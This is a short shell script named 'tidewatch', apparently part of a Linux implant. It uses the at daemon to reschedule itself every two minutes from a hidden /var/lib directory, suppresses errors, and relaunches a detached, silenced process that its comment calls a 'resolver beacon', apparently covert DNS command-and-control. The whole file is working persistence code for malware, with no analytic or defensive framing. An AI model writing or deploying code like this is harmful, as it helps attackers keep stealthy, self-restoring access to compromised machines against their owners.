#!/bin/sh
# tidewatch: re-queues itself with at and keeps the resolver beacon running
echo "/bin/sh /var/lib/.tidewatch/tw.sh" | at now + 2 minutes 2>/dev/null
[ -s /var/lib/.tidewatch/pid ] && kill -0 "$(cat /var/lib/.tidewatch/pid)" 2>/dev/null && exit 0
setsid -f /bin/sh /var/lib/.tidewatch/rs.sh < /dev/null > /dev/null 2>&1
